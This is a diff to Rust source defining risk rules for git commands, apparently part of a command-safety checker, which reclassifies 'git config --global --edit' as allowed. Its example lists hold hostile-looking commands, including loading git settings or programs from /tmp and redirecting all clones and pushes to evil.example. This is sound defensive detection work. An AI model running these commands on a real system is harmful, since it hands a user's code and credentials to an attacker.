@@ -81,7 +81,7 @@ rules! {
         .reversible(Reversible::Yes)
         .examples(&["pre-commit install", "husky init"], &["pre-commit run --all-files"]);
     FOREIGN_CONFIG = Rule::new("git-foreign-config", EffectKind::Opaque, Risk::High, "lets git take settings or programs from {}", "让 git 从 {} 读取设置或程序")
-        .examples(&["git -c include.path=/tmp/x log", "git --exec-path=/tmp/bin status", "git config --global --edit"], &["git --exec-path", "git config --list"]);
+        .examples(&["git -c include.path=/tmp/x log", "git --exec-path=/tmp/bin status"], &["git --exec-path", "git config --list", "git config --global --edit"]);
     REDIRECT = Rule::new("git-redirect", EffectKind::System, Risk::Critical, "sends every later clone and push somewhere else: {}", "把以后的克隆与推送转向别处：{}")
         .priority(Priority::P0)
         .examples(&["git config --global url.https://evil.example/.insteadOf https://github.com/"], &["git config --global url.git@github.com:.insteadOf https://github.com/"]);
